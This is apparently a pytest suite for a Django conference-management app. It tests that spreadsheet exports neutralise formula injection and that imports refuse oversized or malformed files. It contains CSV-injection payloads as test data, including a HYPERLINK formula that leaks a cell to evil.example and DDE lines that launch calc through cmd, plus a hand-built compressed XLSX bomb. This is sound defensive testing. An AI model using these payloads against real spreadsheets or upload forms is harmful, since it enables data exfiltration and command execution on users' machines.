"""Spreadsheets out (formula injection neutralised in every export) and in (limits
checked while reading, so an oversized file is refused after reading the limit)."""

import ast
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet

from plenaria.conftest import client_for
from plenaria.core import spreadsheets
from plenaria.core.forms import MAX_ID, as_int, as_key
from plenaria.core.spreadsheets import SpreadsheetError

# Fixtures of the apps whose exports are tested here.
from plenaria.delegates.tests.conftest import confirmed_list, seats  # noqa: F401
from plenaria.proposals.tests.conftest import conference, enrol, shift  # noqa: F401
from plenaria.voting.tests.conftest import make_poll, open_poll  # noqa: F401

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Clique aqui")'
DDE = "+cmd|' /C calc'!A0"
ATTACKS = [
    HYPERLINK,
    DDE,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


# --- the rule -----------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_value_that_would_start_a_formula_gets_a_quote(attack):
    assert spreadsheets.cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value",
    [
        "Maria das Dores",
        "",
        "-12",
        "+3,5",
        "1.5",
        "a=b",
        "Maria - CRAS",
        "e-mail@exemplo.org",
    ],
)
def test_plain_text_and_numbers_written_as_text_stay_as_they_are(value):
    assert spreadsheets.cell(value) == value


@pytest.mark.parametrize(
    "value",
    [None, 0, -5, 3.25, Decimal("-1.5"), True, dt.date(2025, 6, 10), dt.datetime(2025, 6, 10, 8)],
)
def test_real_numbers_dates_and_empty_cells_stay_numbers_dates_and_empty(value):
    assert spreadsheets.cell(value) is value


def test_control_characters_that_xlsx_refuses_are_removed():
    assert spreadsheets.cell("Ana\x00\x01\x1b Lima") == "Ana Lima"


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    spreadsheets.CsvWriter(out).writerow([HYPERLINK, 3, "Ana"])
    assert out.getvalue().startswith('"\'=HYPERLINK(""http')
    assert out.getvalue().rstrip().endswith(";3;Ana")


def test_no_module_builds_a_workbook_or_a_csv_writer_of_its_own():
    """Every XLSX and CSV goes through XlsxSheet/CsvWriter, so no export escapes the rule
    (the reference-data build script writes shipped files from IBGE, not user data)."""
    root = Path(spreadsheets.__file__).resolve().parent.parent
    exempt = {root / "core" / "spreadsheets.py", root / "territory" / "data" / "build_data.py"}
    offenders = []
    for path in root.rglob("*.py"):
        if path in exempt or "tests" in path.parts or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call):
                name = ast.unparse(node.func)
                if name in ("Workbook", "openpyxl.Workbook", "csv.writer", "csv.DictWriter"):
                    offenders.append(f"{path.relative_to(root)}:{node.lineno} {name}")
    assert offenders == []


# --- the exports --------------------------------------------------------------------


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _assert_neutralised(sheet, text: str) -> None:
    """The cell holds the quoted text as a string, never a formula."""
    found = [c for row in sheet.iter_rows() for c in row if c.value == "'" + text]
    assert found, f"{text!r} not found neutralised"
    assert all(c.data_type == "s" for c in found)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_attendance_list_xlsx_holds_a_hostile_name_as_text(
    conference,  # noqa: F811
    enrol,  # noqa: F811
    shift,  # noqa: F811
    organiser,
):
    enrol(HYPERLINK)
    url = reverse("participants:attendance_list", args=[conference.pk, shift.pk])
    response = client_for(organiser).get(url)
    _assert_neutralised(_sheet(b"".join(response.streaming_content)), HYPERLINK)


def test_the_named_votes_xlsx_holds_hostile_names_questions_and_options_as_text(
    open_poll,  # noqa: F811
    enrol,  # noqa: F811
    conference,  # noqa: F811
    organiser,
):
    from plenaria.voting import services

    voter = enrol(DDE)
    poll = open_poll(question="@SUM(1+1)*cmd|' /C calc'!A0")
    services.ballot_cast(poll=poll, registration=voter, option_key="yes")
    response = client_for(organiser).get(reverse("voting:named_votes", args=[conference.pk]))
    sheet = _sheet(response.content)
    _assert_neutralised(sheet, DDE)
    _assert_neutralised(sheet, "@SUM(1+1)*cmd|' /C calc'!A0")


def test_the_delegate_list_xlsx_holds_hostile_names_contacts_and_needs_as_text(
    confirmed_list,  # noqa: F811
    organiser,
):
    made = confirmed_list([("Ana", "users", "titular"), ("Gil", "government", "titular")])
    registration = made[0].registration
    registration.name = HYPERLINK
    registration.email = "-x@evil.example"
    registration.organisation = DDE
    registration.accessibility_other = "\t=1+1"
    registration.save()
    response = client_for(organiser).get(reverse("delegates:xlsx", args=[made[0].conference_id]))
    sheet = _sheet(response.content)
    for text in (HYPERLINK, "-x@evil.example", DDE):
        _assert_neutralised(sheet, text)
    assert any("(\t=1+1)" in str(c.value) for row in sheet.iter_rows() for c in row)


def test_the_statistics_csv_holds_a_hostile_municipality_name_as_text(
    conference,  # noqa: F811
    enrol,  # noqa: F811
    organiser,
    montes_claros,
):
    montes_claros.name = HYPERLINK
    montes_claros.save()
    enrol("Ana", municipality=montes_claros)
    url = reverse("participants:statistics", args=[conference.pk])
    text = client_for(organiser).get(url, {"formato": "csv"}).content.decode("utf-8-sig")
    lines = [line for line in text.splitlines() if "HYPERLINK" in line]
    assert lines and all(";\"'=HYPERLINK(" in line for line in lines)


# --- reading: limits while streaming -------------------------------------------------


@pytest.fixture
def rows_read(monkeypatch):
    """How many rows the csv module and openpyxl's streaming reader handed over."""
    count = {"n": 0}
    csv_reader = spreadsheets.csv.reader
    cells_by_row = ReadOnlyWorksheet._cells_by_row

    def counted(rows):
        for one in rows:
            count["n"] += 1
            yield one

    monkeypatch.setattr(spreadsheets.csv, "reader", lambda *a, **k: counted(csv_reader(*a, **k)))
    monkeypatch.setattr(
        ReadOnlyWorksheet,
        "_cells_by_row",
        lambda self, *a, **k: counted(cells_by_row(self, *a, **k)),
    )
    return count


def _oversized_xlsx(rows: int) -> bytes:
    """A minimal XLSX written by hand, as an attacker would: repeated rows compress so
    well that 200,000 of them take about 100 KB."""
    import zipfile

    header = "".join(
        f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in ("nome", "segmento", "categoria")
    )
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData><row>{header}</row>"
        + "<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c></row>" * rows
        + "</sheetData></worksheet>"
    )
    main = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    files = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{main}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{main}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{main}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def test_an_xlsx_of_200000_rows_is_refused_after_reading_the_limit(rows_read):
    from plenaria.participants import imports

    data = _oversized_xlsx(200_000)
    assert len(data) < 200 * 1024  # far below the upload's size limit of 2 MB
    with pytest.raises(SpreadsheetError) as refused:
        imports.read_table(data, "lista.xlsx")
    assert str(refused.value) == f"O arquivo tem mais de {imports.MAX_ROWS} linhas; divida-o."
    assert rows_read["n"] == imports.MAX_ROWS + 2  # the header, the limit and one more


def test_a_csv_of_200000_rows_is_refused_after_reading_the_limit(rows_read):
    from plenaria.participants import imports

    data = ("nome;segmento;categoria\n" + "x;usuario;delegado\n" * 200_000).encode()
    with pytest.raises(SpreadsheetError, match="mais de 5000 linhas"):
        imports.read_table(data, "lista.csv")
    assert rows_read["n"] == imports.MAX_ROWS + 2


def test_a_file_of_blank_rows_cannot_keep_the_reader_going(rows_read):
    text = "nome;segmento\n" + "\n" * 50_000 + ";\n" * 50_000
    with pytest.raises(SpreadsheetError):
        list(spreadsheets.csv_rows(text, max_rows=100))
    assert rows_read["n"] == 102


def test_a_zip_that_unpacks_past_the_limit_is_refused_before_openpyxl_reads_it(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED", 1000)
    with pytest.raises(SpreadsheetError, match="grande demais"):
        list(spreadsheets.xlsx_rows(_oversized_xlsx(100), max_rows=5000))


def test_a_row_wider_than_the_header_is_refused_with_its_line():
    text = "nome;segmento\nAna;usuario\nBia;usuario;delegado;extra\n"
    with pytest.raises(SpreadsheetError, match="A linha 3 tem mais colunas que o cabeçalho"):
        list(spreadsheets.csv_rows(text, max_rows=10))
    # empty trailing cells (separators Excel leaves) are not columns
    assert list(spreadsheets.csv_rows("a;b\n1;2;;\n", max_rows=10)) == [["a", "b"], ["1", "2"]]


def test_a_field_over_the_csv_modules_limit_is_a_message_not_a_crash():
    text = 'nome;segmento\n"' + "x" * 200_000 + '";usuario\n'
    with pytest.raises(SpreadsheetError, match="Linha 2: uma célula tem mais de 1000"):
        list(spreadsheets.csv_rows(text, max_rows=10))


def test_a_lone_carriage_return_ends_a_line_as_in_old_mac_files_instead_of_crashing():
    rows = list(spreadsheets.csv_rows("nome;segmento\nAna\rLima;usuario\n", max_rows=10))
    assert rows == [["nome", "segmento"], ["Ana"], ["Lima", "usuario"]]


def test_more_columns_than_any_form_has_are_refused():
    header = ";".join(f"c{i}" for i in range(spreadsheets.MAX_COLUMNS + 1))
    with pytest.raises(SpreadsheetError, match="mais de 60 colunas"):
        list(spreadsheets.csv_rows(header + "\n", max_rows=10))


@pytest.mark.parametrize(
    "data",
    ["nome;segmento\n".encode("utf-16"), b"\x00\x01binary", b"nome\n\x81\x8d\x8f\x90\x9d\xff\n"],
)
def test_wrong_encodings_are_a_message(data):
    with pytest.raises(SpreadsheetError, match="não é um arquivo de texto"):
        spreadsheets.decode_text(data)


def test_windows_1252_text_is_read():
    assert spreadsheets.decode_text("Conceição".encode("cp1252")) == "Conceição"


# --- ids ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["9223372036854775808", "99999999999999999999", "9" * 5000, "-1", "1e3", "²", "", None],
)
def test_as_int_refuses_what_no_database_id_can_be(text):
    assert as_int(text) is None


def test_as_int_accepts_the_largest_id():
    assert as_int(str(MAX_ID)) == MAX_ID and as_int(" 42 ") == 42


@pytest.mark.parametrize("text", ["yes\x00", "x" * 41, None, ""])
def test_as_key_gives_nothing_for_what_no_key_can_be(text):
    assert as_key(text) == ""


def test_as_key_keeps_a_key():
    assert as_key(" c12 ") == "c12"
